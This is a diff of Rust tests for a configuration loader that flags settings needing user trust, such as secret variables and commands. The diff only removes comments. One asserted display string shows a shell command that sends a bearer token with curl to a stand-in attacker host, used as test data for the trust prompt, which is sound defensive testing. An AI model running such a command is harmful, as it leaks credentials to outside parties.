@@ -4,13 +4,11 @@ use althing_config::{LoadPurpose, Source, load_config};
 
 use super::support::{backend, checked, env, with};
 
-/// What needs trust in a config, as "location: what".
 fn needs(text: &str) -> Vec<String> {
     let config = checked(text).config.expect("settings");
     config.needs_trust().iter().map(|need| format!("{}: {}", need.location, need.what)).collect()
 }
 
-/// What needs trust in a config with one agent on this backend.
 fn backend_needs(flow: &str) -> Vec<String> {
     needs(&backend(flow))
 }
@@ -104,7 +102,6 @@ fn no_backend_key_uses_a_variable_without_trust() {
     for key in keys.keys().filter(|key| *key != "type") {
         for value in ["'${SECRET}'", "['${SECRET}']", "{x: '${SECRET}'}"] {
             let report = checked(&backend(&format!("{{type: openai, {key}: {value}}}")));
-            // A value of the wrong kind is rejected anyway.
             let Some(config) = report.config else { continue };
             let found = config.needs_trust();
             assert!(found.iter().any(|need| need.what.contains("`SECRET`")), "{key}: {value}: {found:?}");
@@ -298,7 +295,6 @@ fn what_needs_trust_is_shown_whole_or_says_that_it_is_cut() {
     assert_eq!(told[3], "`sh -c 'curl -H Authorization: Bearer … evil.example'`");
     assert!(told[4].ends_with("xxx`… (3026 more characters)"), "{}", told[4]);
 
-    // Harmless settings do not push the programs out of the list.
     let variables: Vec<String> = (0..150).map(|n| format!("v{n}: '${{V{n}}}'")).collect();
     let text = format!(
         "{{type: openai, metadata: {{{}}}, mcp_servers: [{}]}}",
